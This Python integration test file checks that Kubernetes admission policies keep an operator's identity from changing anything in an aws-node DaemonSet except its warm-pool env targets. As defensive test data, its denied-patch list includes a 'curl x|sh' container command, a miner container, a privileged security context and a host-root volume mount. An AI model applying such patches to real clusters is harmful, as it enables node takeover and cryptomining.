"""Issue 13 on the real kube-apiserver: the ValidatingAdmissionPolicies of deploy/kustomize/base/admission-policy.yaml
(installed by the dev control plane with the RBAC, as a user would) let the operator's identity change nothing in
a target DaemonSet but the warm-pool env entries of the ipamd container, and nothing in a WarmPoolPolicy but
status, kopf's finalizer and warmpool.io/ annotations. Every denied change is also made by the admin, who passes:
the policies match only the operator's ServiceAccount."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

import pytest
from kubernetes import client

from tests.integration.test_plan_status import create_policy, fast_spec
from tests.kube import (
    aws_node_daemonset,
    aws_node_env_apply,
    container_env,
    grant_target,
    read_aws_node,
    unique,
    wait_for,
)
from warmpool.api import v1alpha1
from warmpool.api.v1alpha1 import Variable
from warmpool.apply.client import APPLY_PATCH, apply_env
from warmpool.apply.daemonset import FIELD_MANAGER
from warmpool_dev.devcluster.cluster import DevCluster

pytestmark = pytest.mark.integration

POLICY_SUFFIX = "(warmpool admission policy)"
Patch = dict[str, Any]


def containers(*items: dict[str, Any]) -> Patch:
    return {"spec": {"template": {"spec": {"containers": list(items)}}}}


@pytest.fixture(scope="module")
def policies_active(cluster: DevCluster, admin_api: client.ApiClient, operator_api: client.ApiClient) -> None:
    """The API server enforces a new policy once its informer has it: wait until a change it forbids is refused."""
    namespace = unique("t")
    client.CoreV1Api(admin_api).create_namespace({"metadata": {"name": namespace}})
    grant_target(admin_api, namespace)
    client.AppsV1Api(admin_api).create_namespaced_daemon_set(namespace, aws_node_daemonset(namespace))

    def refused() -> bool:
        try:
            client.AppsV1Api(operator_api).patch_namespaced_daemon_set(
                "aws-node", namespace, {"metadata": {"labels": {"probe": "x"}}}, dry_run="All"
            )
        except client.ApiException as error:
            return POLICY_SUFFIX in (error.body or "")
        return False

    wait_for(refused, "the admission policies to be enforced")


@pytest.fixture
def aws_node(admin_api: client.ApiClient, namespace: str, policies_active: None) -> str:
    client.AppsV1Api(admin_api).create_namespaced_daemon_set(namespace, aws_node_daemonset(namespace))
    return namespace


def denial(call: Callable[[], object]) -> tuple[int, str]:
    try:
        call()
    except client.ApiException as error:
        return error.status, json.loads(error.body)["message"]
    raise AssertionError("the change was allowed")


def without_server_fields(ds: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(ds)
    for key in ("managedFields", "resourceVersion", "generation"):
        out["metadata"].pop(key, None)
    return out


def test_operator_apply_adds_changes_and_removes_targets(
    admin_api: client.ApiClient, operator_api: client.ApiClient, aws_node: str
) -> None:
    """The operator's real server-side apply (field manager `warmpool`) passes: the API server merges it into the
    whole object, and that merged object is what the policy compares with the old one."""
    namespace = aws_node
    # An admin left a target entry the operator would never write (valueFrom): untouched entries are not judged.
    admin_body = containers(
        {
            "name": "aws-node",
            "env": [
                {"name": "WARM_ENI_TARGET", "value": None, "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}}
            ],
        }
    )
    client.AppsV1Api(admin_api).patch_namespaced_daemon_set("aws-node", namespace, admin_body)
    before = read_aws_node(admin_api, namespace)

    for values in (
        {Variable.WARM_IP_TARGET: 5, Variable.MINIMUM_IP_TARGET: 10},  # added
        {Variable.WARM_IP_TARGET: 6, Variable.MINIMUM_IP_TARGET: 10, Variable.WARM_PREFIX_TARGET: 0},  # changed
        {Variable.WARM_IP_TARGET: 7},  # MINIMUM_IP_TARGET and WARM_PREFIX_TARGET released (removed)
    ):
        apply_env(operator_api, namespace, "aws-node", "aws-node", values, force=True)
        env = container_env(read_aws_node(admin_api, namespace))
        for variable, value in values.items():
            assert env[variable.value] == str(value)
    after = read_aws_node(admin_api, namespace)
    assert "MINIMUM_IP_TARGET" not in container_env(after)
    # The entry's key is still co-owned by its creator, so server-side apply keeps it without a value (ipamd
    # reads an empty value as unset); the policy lets that through.
    (aws_node_container,) = (c for c in after["spec"]["template"]["spec"]["containers"] if c["name"] == "aws-node")
    assert {"name": "WARM_PREFIX_TARGET"} in aws_node_container["env"]
    # Everything else is as before: only the targets differ.
    targets = {v.value for v in Variable}

    def rest(ds: dict[str, Any]) -> dict[str, Any]:
        out = without_server_fields(ds)
        out["metadata"]["annotations"].pop("deprecated.daemonset.template.generation")
        for c in out["spec"]["template"]["spec"]["containers"]:
            c["env"] = [e for e in c.get("env") or [] if e["name"] not in targets]
        out.pop("status", None)
        return out

    assert rest(after) == rest(before)


DENIED: list[tuple[str, Patch, str]] = [
    ("image", containers({"name": "aws-node", "image": "registry.invalid/evil:1"}), "not aws-node.image"),
    (
        "new container",
        containers({"name": "miner", "image": "registry.invalid/miner:1"}),
        "containers added, removed, reordered or changed: miner (new)",
    ),
    (
        "non-managed env entry",
        containers({"name": "aws-node", "env": [{"name": "AWS_VPC_K8S_CNI_LOGLEVEL", "value": "INFO"}]}),
        "may change only the env entries WARM_ENI_TARGET, WARM_IP_TARGET, MINIMUM_IP_TARGET, WARM_PREFIX_TARGET, "
        "not aws-node env AWS_VPC_K8S_CNI_LOGLEVEL",
    ),
    (
        "env entry added",
        containers({"name": "aws-node", "env": [{"name": "AWS_VPC_K8S_PLUGIN_LOG_FILE", "value": "stdout"}]}),
        "not aws-node env AWS_VPC_K8S_PLUGIN_LOG_FILE",
    ),
    (
        "env entry removed",
        containers({"name": "aws-node", "env": [{"name": "ENABLE_IPv6", "$patch": "delete"}]}),
        "not aws-node env ENABLE_IPv6",
    ),
    ("command", containers({"name": "aws-node", "command": ["/bin/sh", "-c", "curl x|sh"]}), "not aws-node.command"),
    (
        "security context",
        containers({"name": "aws-node", "securityContext": {"privileged": True}}),
        "not aws-node.securityContext",
    ),
    (
        "another container's env",
        containers({"name": "aws-eks-nodeagent", "env": [{"name": "WARM_IP_TARGET", "value": "3"}]}),
        "containers added, removed, reordered or changed: aws-eks-nodeagent",
    ),
    (
        "volume",
        {"spec": {"template": {"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}}},
        "may not change the pod template: spec.template.spec.volumes",
    ),
    (
        "init container",
        {"spec": {"template": {"spec": {"initContainers": [{"name": "aws-vpc-cni-init", "image": "evil:1"}]}}}},
        "spec.template.spec.initContainers",
    ),
    (
        "service account",
        {"spec": {"template": {"spec": {"serviceAccountName": "cluster-admin-sa"}}}},
        "spec.template.spec.serviceAccountName",
    ),
    (
        "pod template labels",
        {"spec": {"template": {"metadata": {"labels": {"extra": "x"}}}}},
        "may not change the DaemonSet spec: spec.template.metadata",
    ),
    (
        "update strategy",
        {"spec": {"updateStrategy": {"rollingUpdate": {"maxUnavailable": "100%"}}}},
        "may not change the DaemonSet spec: spec.updateStrategy",
    ),
    ("labels", {"metadata": {"labels": {"extra": "x"}}}, "may not change the DaemonSet metadata: labels"),
    (
        "annotation",
        {"metadata": {"annotations": {"example.com/x": "y"}}},
        "may not change the DaemonSet metadata: annotations[example.com/x]",
    ),
    ("finalizer", {"metadata": {"finalizers": ["example.com/block"]}}, "metadata: finalizers"),
    (
        "target value ipamd would not read as written",
        containers({"name": "aws-node", "env": [{"name": "WARM_IP_TARGET", "value": "-1"}]}),
        "may set aws-node.WARM_IP_TARGET only to a whole number written in plain digits",
    ),
    (
        "target from a reference",
        containers(
            {
                "name": "aws-node",
                "env": [{"name": "MINIMUM_IP_TARGET", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}}],
            }
        ),
        "may set aws-node.MINIMUM_IP_TARGET only to a whole number",
    ),
]


@pytest.mark.parametrize(("what", "patch", "message"), DENIED, ids=[case[0] for case in DENIED])
def test_operator_denied_admin_allowed(
    admin_api: client.ApiClient,
    operator_api: client.ApiClient,
    aws_node: str,
    what: str,
    patch: Patch,
    message: str,
) -> None:
    namespace = aws_node
    before = read_aws_node(admin_api, namespace)
    status, text = denial(
        lambda: client.AppsV1Api(operator_api).patch_namespaced_daemon_set("aws-node", namespace, patch)
    )
    assert status in (403, 422), text
    assert "ValidatingAdmissionPolicy 'warmpool-operator-daemonset-env'" in text
    assert message in text, text
    assert text.endswith(POLICY_SUFFIX), text
    assert read_aws_node(admin_api, namespace) == before
    # The same change by an admin passes: the policy is about the operator's identity, not about the change.
    client.AppsV1Api(admin_api).patch_namespaced_daemon_set("aws-node", namespace, patch)
    assert without_server_fields(read_aws_node(admin_api, namespace)) != without_server_fields(before)


def test_operator_server_side_apply_cannot_smuggle_other_fields(
    admin_api: client.ApiClient, operator_api: client.ApiClient, aws_node: str
) -> None:
    """A compromised operator using its own field manager and force: the image rides along with a target value."""
    namespace = aws_node
    body = aws_node_env_apply(namespace, {"WARM_IP_TARGET": "3"}, image="evil:1")
    apps = client.AppsV1Api(operator_api)

    def apply(dry_run: str | None = None) -> object:
        return apps.patch_namespaced_daemon_set(
            "aws-node",
            namespace,
            body,
            field_manager=FIELD_MANAGER,
            force=True,
            dry_run=dry_run,
            _content_type=APPLY_PATCH,
        )

    # The issue's finding: a server-side dry run of an image change succeeded. Now dry run and real are refused.
    for dry_run in ("All", None):
        status, text = denial(lambda dry_run=dry_run: apply(dry_run))  # type: ignore[misc]
        assert status == 403
        assert "not aws-node.image" in text
    assert "WARM_IP_TARGET" not in container_env(read_aws_node(admin_api, namespace))


def test_policy_holds_even_where_rbac_is_wider(
    admin_api: client.ApiClient, operator_api: client.ApiClient, aws_node: str
) -> None:
    """Defence in depth: with RBAC widened by mistake (every verb on every DaemonSet of a namespace), the
    operator's identity still cannot create, delete or rewrite DaemonSets there."""
    namespace = aws_node
    rbac = client.RbacAuthorizationV1Api(admin_api)
    name = "too-wide"
    rbac.create_namespaced_role(
        namespace,
        {
            "metadata": {"name": name},
            "rules": [{"apiGroups": ["apps"], "resources": ["daemonsets", "daemonsets/status"], "verbs": ["*"]}],
        },
    )
    rbac.create_namespaced_role_binding(
        namespace,
        {
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
            "subjects": [{"kind": "ServiceAccount", "name": "warmpool-operator", "namespace": "kube-system"}],
        },
    )
    apps = client.AppsV1Api(operator_api)
    kube_proxy = aws_node_daemonset(namespace)
    kube_proxy["metadata"]["name"] = "kube-proxy"

    def create() -> object:
        return apps.create_namespaced_daemon_set(namespace, kube_proxy)

    # RBAC may take a moment to see the new Role; once it does, admission is what refuses.
    def refused_by_admission() -> str | None:
        try:
            create()
        except client.ApiException as error:
            return error.body if POLICY_SUFFIX in (error.body or "") else None
        raise AssertionError("the operator's identity created a DaemonSet")

    assert "may only update an existing DaemonSet, not CREATE" in wait_for(refused_by_admission, "RBAC to widen")
    _, text = denial(lambda: apps.delete_namespaced_daemon_set("aws-node", namespace))
    assert "may only update an existing DaemonSet, not DELETE" in text
    _, text = denial(
        lambda: apps.patch_namespaced_daemon_set_status("aws-node", namespace, {"status": {"numberReady": 0}})
    )
    assert "not its status" in text
    everything = aws_node_daemonset(namespace)
    everything["spec"]["template"]["spec"]["containers"][0]["image"] = "evil:1"
    _, text = denial(lambda: apps.replace_namespaced_daemon_set("aws-node", namespace, everything))
    assert "not aws-node.image" in text
    assert read_aws_node(admin_api, namespace)["spec"]["template"]["spec"]["containers"][0]["image"] != "evil:1"
    rbac.delete_namespaced_role_binding(name, namespace)
    rbac.delete_namespaced_role(name, namespace)


def test_operator_writes_status_finalizer_and_annotations_of_a_policy_never_its_spec(
    admin_api: client.ApiClient, operator_api: client.ApiClient, namespace: str, policies_active: None
) -> None:
    name = unique("guarded")
    create_policy(admin_api, name, fast_spec(namespace, "ng"))
    objects = client.CustomObjectsApi(operator_api)
    group = (v1alpha1.GROUP, v1alpha1.VERSION, v1alpha1.PLURAL, name)

    # What kopf and the operator do: finalizer, bookkeeping annotations, status.
    objects.patch_cluster_custom_object(
        *group,
        {
            "metadata": {
                "finalizers": ["warmpool.io/finalizer"],
                "annotations": {"warmpool.io/last-handled-configuration": "{}", "warmpool.io/plan_policy": "{}"},
            }
        },
    )
    objects.patch_cluster_custom_object_status(*group, {"status": {"mode": "SecondaryIP"}})
    objects.patch_cluster_custom_object(*group, {"metadata": {"finalizers": None}})

    for patch, message in (
        ({"spec": {"dryRun": False}}, "not spec"),
        ({"metadata": {"labels": {"x": "y"}}}, "not metadata.labels"),
        ({"metadata": {"annotations": {"example.com/x": "y"}}}, "not metadata.annotations[example.com/x]"),
        ({"metadata": {"finalizers": ["example.com/keep"]}}, "not metadata.finalizers"),
    ):
        status, text = denial(lambda patch=patch: objects.patch_cluster_custom_object(*group, patch))  # type: ignore[misc]
        assert status == 403
        assert "ValidatingAdmissionPolicy 'warmpool-operator-policy-spec'" in text
        assert message in text, text
        # ...and the admin may.
        client.CustomObjectsApi(admin_api).patch_cluster_custom_object(*group, patch)
    admin = client.CustomObjectsApi(admin_api)
    body = admin.get_cluster_custom_object(*group)
    assert body["spec"]["dryRun"] is False
    assert body["status"]["mode"] == "SecondaryIP"
    admin.patch_cluster_custom_object(*group, {"metadata": {"finalizers": None}})
    admin.delete_cluster_custom_object(*group)
